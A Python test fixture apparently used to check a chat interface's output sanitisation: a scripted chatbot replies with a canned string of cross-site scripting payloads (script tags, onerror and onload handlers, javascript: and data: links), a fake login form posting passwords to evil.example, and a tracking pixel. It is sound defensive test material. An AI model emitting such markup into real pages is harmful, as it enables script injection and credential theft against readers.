"""A chatbot whose model was talked into attacking whoever reads it."""

import asyncio

from runtime.model.offline import OfflineModel
from runtime.model.offline_script import Script, Turn
from runtime.sdk import ChatBot, OpenAIResponsesAdapter, ServiceHost

service = ServiceHost()

ATTACK = """Here you are:

<img src=x onerror="window.pwned = 1; alert('pwned')">
<script>window.pwned = 2</script>
<svg onload="window.pwned = 3"></svg>
<iframe srcdoc="<script>parent.pwned = 4</script>"></iframe>
<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>
<style>body { display: none }</style>

[press me](javascript:window.pwned=5) and [me](data:text/html,<script>opener.pwned=6</script>)

![tracking](https://evil.example/pixel.png)

**That was all.**
"""


@service.path("/hostile", identity="hostile")
class Hostile(ChatBot):
    """Answers with what must not run."""

    def __init__(self):
        model = OfflineModel(delay_ms=0, script=Script((Turn(say=ATTACK),)))
        super().__init__(name="hostile", title="Hostile", llm_adapter=OpenAIResponsesAdapter(backend=model))


asyncio.run(service.run())
